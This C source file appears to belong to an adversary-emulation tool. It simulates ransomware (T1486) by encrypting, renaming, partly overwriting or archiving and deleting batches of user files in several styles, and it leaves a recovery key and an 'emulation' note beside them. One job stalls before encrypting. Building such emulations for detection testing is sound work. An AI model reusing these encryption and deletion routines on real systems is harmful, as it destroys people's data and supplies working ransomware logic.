/* Data encrypted for impact (T1486) in several styles; see ransom.py. */

static const char TARGETS[] = "txt md csv pdf docx xlsx odt tex jpg png mp3 zip c py";

/* Key and note in each folder of the paths; half of the runs do so before they encrypt, half after. */
static void leave_key(list paths)
{
    static const char note[] = "This folder was encrypted by an emulation. The key lies in the file beside this one.\n";
    list done = {0};
    for (int i = 0; i < paths.n; i++) {
        char *place = parent(paths.at[i]);
        int known = 0;
        for (int k = 0; k < done.n; k++)
            known |= !strcmp(done.at[k], place);
        if (known)
            continue;
        push(&done, place);
        write_file(text("%s/RECOVER.key", place), bytes(text("%016llx\n", (unsigned long long)ransom_key)));
        write_file(text("%s/RECOVER.txt", place), bytes(note));
    }
}

static list victims(int low, int high)
{
    ransom_key = next();
    list paths = pick(files(some_folders(), TARGETS), low, high);
    return paths.n < 40 ? pick(files(DATA, TARGETS), low, high) : paths;
}

JOB(encrypt_in_place)
{
    groundwork();
    list paths = victims(60, 130);
    int notes_first = chance(50);
    if (notes_first)
        leave_key(paths);
    for (int i = 0; i < paths.n; i++)
        update(paths.at[i], scramble);
    if (!notes_first)
        leave_key(paths);
}

JOB(encrypt_copy_delete)
{
    groundwork();
    char *ending = noise(5);
    list paths = victims(60, 130);
    int notes_first = chance(50);
    if (notes_first)
        leave_key(paths);
    for (int i = 0; i < paths.n; i++) {
        write_file(text("%s.%s", paths.at[i], ending), scramble(read_file(paths.at[i])));
        remove_file(paths.at[i]);
    }
    if (!notes_first)
        leave_key(paths);
}

JOB(encrypt_rename)
{
    groundwork();
    char *ending = noise(5);
    int rename_first = chance(50);
    list paths = victims(60, 130);
    leave_key((list){(char *[]){home("Desktop/x")}, 1});
    for (int i = 0; i < paths.n; i++) {
        char *target = text("%s.%s", paths.at[i], ending);
        if (rename_first)
            rename_file(paths.at[i], target);
        update(rename_first ? target : paths.at[i], scramble);
        if (!rename_first)
            rename_file(paths.at[i], target);
    }
    leave_key(paths);
}

JOB(encrypt_partial)
{
    groundwork();
    size_t block = (size_t[]){512, 1024, 2048}[within(0, 2)];
    list paths = victims(50, 100);
    int notes_first = chance(50);
    if (notes_first)
        leave_key(paths);
    for (int i = 0; i < paths.n; i++) {
        int fd = open(guard(paths.at[i]), O_RDWR | O_CLOEXEC);
        blob part = zeros(block);
        ssize_t got;
        for (off_t at = 0; at < (off_t)(12 * block) && (got = pread(fd, part.p, block, at)) > 0; at += (off_t)(3 * block))
            if (pwrite(fd, scramble((blob){part.p, (size_t)got}).p, (size_t)got, at) < 0)
                die("pwrite", paths.at[i]);
        close(fd);
        if (chance(15))
            pause_ms(1000, 12000);
    }
    if (!notes_first)
        leave_key(paths);
}

JOB(encrypt_workers)
{
    groundwork();
    char *ending = noise(4);
    list paths = victims(60, 130);
    int notes_first = chance(50);
    if (notes_first)
        leave_key(paths);
    int workers = within(2, 4);
    pid_t children[4];
    for (int k = 0; k < workers; k++)
        if ((children[k] = begin()) == 0) {
            for (int i = k; i < paths.n; i += workers) {
                update(paths.at[i], scramble);
                rename_file(paths.at[i], text("%s.%s", paths.at[i], ending));
            }
            _exit(0);
        }
    for (int k = 0; k < workers; k++)
        finish(children[k]);
    if (!notes_first)
        leave_key(paths);
}

JOB(encrypt_archive)
{
    groundwork();
    list paths = victims(60, 130);
    int fd = open(guard(home(text("Documents/%s.box", noise(6)))), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    for (int i = 0; i < paths.n; i++) {
        blob data = read_file(paths.at[i]);
        char *head = text("%s %zu\n", paths.at[i], data.n);
        blob all = zeros(strlen(head) + data.n);
        memcpy(all.p, head, strlen(head));
        memcpy(all.p + strlen(head), data.p, data.n);
        write_fd(fd, scramble(all));
        remove_file(paths.at[i]);
    }
    close(fd);
    leave_key((list){(char *[]){home("Documents/x")}, 1});
}

JOB(delayed_encrypt)
{
    for (int looks = within(4, 11); looks > 0; looks--) {
        pause_ms(5000, 30000);
        read_some("/proc/self/status", 4096);
        if (chance(50))
            read_some("/proc/uptime", 64);
    }
    groundwork();
    char *ending = noise(5);
    list paths = victims(50, 100);
    int notes_first = chance(50);
    if (notes_first)
        leave_key(paths);
    for (int i = 0; i < paths.n; i++) {
        write_file(paths.at[i], scramble(read_file(paths.at[i])));
        rename_file(paths.at[i], text("%s.%s", paths.at[i], ending));
    }
    if (!notes_first)
        leave_key(paths);
}
